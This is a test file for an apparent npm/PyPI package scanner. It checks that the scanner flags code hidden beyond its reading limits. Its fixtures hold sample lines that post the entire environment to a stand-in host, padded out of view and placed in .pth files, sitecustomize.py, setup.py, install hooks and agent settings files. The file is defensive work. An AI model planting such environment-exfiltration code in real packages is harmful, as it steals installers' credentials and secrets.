import { ARCHIVE_LIMITS, type ArchiveLimits } from '../archive/archive-limits';
import { nestedArchives } from '../archive/nested-archives';
import { readTarball } from '../archive/read-tarball';
import { readWheel } from '../archive/read-wheel';
import { guarded } from '../ast/guarded';
import { namesACapability } from '../ast/javascript/names-a-capability';
import { readJavascript } from '../ast/javascript/read-javascript';
import { pythonReady } from '../ast/python/grammar';
import { readPython } from '../ast/python/read-python';
import { npmFacts } from '../facts/npm/npm-facts';
import { pypiFacts } from '../facts/pypi/pypi-facts';
import { judge } from '../rules/judge';
import { npmPackage, tarball, wheel, type Files } from '../testing';

const SURROUNDINGS = {
  readers: guarded({ javascript: readJavascript, javascriptActs: namesACapability, python: readPython }),
  registryHost: 'registry.invalid',
};
const LONG = `// ${'padding '.repeat(200)}\n`;
const JS = `${LONG}require('https').request('https://x.invalid').end(JSON.stringify(process.env));\n`;
const PY = `# ${'padding '.repeat(200)}\nimport os, requests\nrequests.post('https://x.invalid', json=dict(os.environ))\n`;
const small = (name: keyof ArchiveLimits, bytes = 1_000) => ({ [name]: bytes });
const named = (json: object) => JSON.stringify({ name: 'b', version: '1.0.0', ...json });

type Case = readonly [what: string, rule: string, files: Files, limits: Partial<ArchiveLimits>];

const NPM: readonly Case[] = [
  ['an entry beyond what is kept of a file', 'runs-unread', { 'index.js': JS }, small('keptFileBytes')],
  [
    'an entry behind what all files may have',
    'runs-unread',
    { 'a.js': 'a()\n'.repeat(240), 'index.js': JS },
    small('keptBytes'),
  ],
  [
    'what an entry loads',
    'runs-unread',
    { 'index.js': `require('./lib/x')`, 'lib/x.js': JS },
    small('keptFileBytes'),
  ],
  [
    'the manifest behind other manifests',
    'manifest-missing',
    { 'package.json': named({ x: LONG }) },
    small('keptManifestBytes'),
  ],
  [
    'the manifest of a bundled package',
    'hook-untraceable',
    { 'node_modules/b/package.json': named({ x: LONG, scripts: { install: 'node x' } }) },
    small('keptManifestBytes'),
  ],
  ['commands of gyp', 'hook-untraceable', { 'binding.gyp': `# ${LONG}` }, small('keptManifestBytes')],
  [
    'settings that agents obey',
    'runs-unread',
    { '.claude/settings.json': `{"x": "${LONG.trim()}"}` },
    small('keptTextFileBytes'),
  ],
  [
    'settings behind other text',
    'runs-unread',
    { 'a.txt': 'a'.repeat(990), '.cursor/mcp.json': `{"x": "${LONG.trim()}"}` },
    small('keptTextBytes'),
  ],
];
const PYPI: readonly Case[] = [
  ['a package beyond what is kept', 'runs-unread', { 'a/__init__.py': PY }, small('keptFileBytes')],
  ['a module behind what all files may have', 'runs-unread', { 'a.py': PY }, small('keptBytes')],
  ['a .pth', 'runs-unread', { 'a.pth': `${PY}import os\n` }, small('keptFileBytes')],
  ['a file of every start', 'runs-unread', { 'sitecustomize.py': PY }, small('keptFileBytes')],
  ['settings of agents', 'runs-unread', { '.mcp.json': `{"x": "${LONG.trim()}"}` }, small('keptFileBytes')],
];
const SDIST: readonly Case[] = [
  ['setup.py', 'runs-unread', { 'setup.py': PY }, small('keptManifestBytes')],
  ['the settings of the build', 'runs-unread', { 'pyproject.toml': `# ${LONG}` }, small('keptManifestBytes')],
];
const TOLD: readonly Case[] = [
  ['code that nothing loads', 'code-unread', { 'x/y.js': JS }, small('keptFileBytes')],
  ['text that could be code', 'code-unread', { 'x.txt': JS }, small('keptTextFileBytes')],
  ['text behind other text', 'code-unread', { 'a.txt': 'a'.repeat(990), 'x.md': JS }, small('keptTextBytes')],
  ['text in UTF-16', 'code-unread', { run: Buffer.from(`\ufeff${JS}`, 'utf16le') }, small('keptBytes')],
  [
    'a word where two pieces meet',
    'code-unread',
    { 'x.txt': `${'a '.repeat(32_766)}${JS}` },
    small('keptTextBytes'),
  ],
];
const CLEAN: readonly Case[] = [
  [
    'prose',
    '',
    { 'x.txt': 'We import goods, process them, and evaluate.\n'.repeat(50) },
    small('keptTextBytes'),
  ],
  ['data', '', { 'x.json': `{"a": "${JS.replace(/[\n"\\]/g, ' ')}"}` }, small('keptTextBytes')],
  ['a table', '', { 'x.csv': 'system,exec,1\n'.repeat(200) }, small('keptTextFileBytes')],
];

async function npm(files: Files, limits: Partial<ArchiveLimits>) {
  const { 'package.json': own, ...others } = files;
  const archive = await (own === undefined
    ? npmPackage({}, others)
    : tarball({ 'a/package.json': 'x'.repeat(900), 'package.json': own, ...others }));
  const outer = await readTarball(archive, { ...ARCHIVE_LIMITS, ...limits });
  return judge(npmFacts({ ...outer, ...(await nestedArchives(outer)) }, SURROUNDINGS));
}

describe('process/budgets', () => {
  beforeAll(pythonReady);

  it.each(NPM)('holds an npm package of which this is beyond a bound: %s', async (_, rule, files, limits) => {
    const { verdict, findings } = await npm(files, limits);

    expect(findings.map((finding) => finding.rule)).toContain(rule);
    expect(verdict).toBe('suspicious');
  });

  it.each(PYPI)('holds a wheel of which this is beyond a bound: %s', async (_, rule, files, limits) => {
    const contents = await readWheel(wheel(files), { ...ARCHIVE_LIMITS, ...limits });
    const { verdict, findings } = judge(pypiFacts(contents, SURROUNDINGS));

    expect(findings.map((finding) => finding.rule)).toContain(rule);
    expect(verdict).toBe('suspicious');
  });

  it.each(SDIST)('holds an sdist of which this is beyond a bound: %s', async (_, rule, files, limits) => {
    const archive = await tarball({ 'PKG-INFO': 'Name: a\nVersion: 1\n', ...files });
    const contents = await readTarball(archive, { ...ARCHIVE_LIMITS, ...limits });
    const { verdict, findings } = judge(pypiFacts(contents, SURROUNDINGS));

    expect(findings.map((finding) => finding.rule)).toContain(rule);
    expect(verdict).toBe('suspicious');
  });

  it.each(TOLD)('tells what it did not read: %s', async (_, rule, files, limits) => {
    const { verdict, findings } = await npm(files, limits);

    expect(findings.map((finding) => finding.rule)).toEqual([rule]);
    expect(verdict).toBe('warning');
  });

  it.each(CLEAN)('has nothing to tell of text by which nothing acts: %s', async (_, __, files, limits) => {
    expect(await npm(files, limits)).toMatchObject({ verdict: 'clean', findings: [] });
  });

  it('tells commands beyond the ones that it follows', async () => {
    const commands = `require('child_process').exec('ls');`.repeat(60);

    expect((await npm({ 'index.js': commands }, {})).findings.map(({ rule }) => rule)).toContain(
      'code-unread',
    );
  });
});
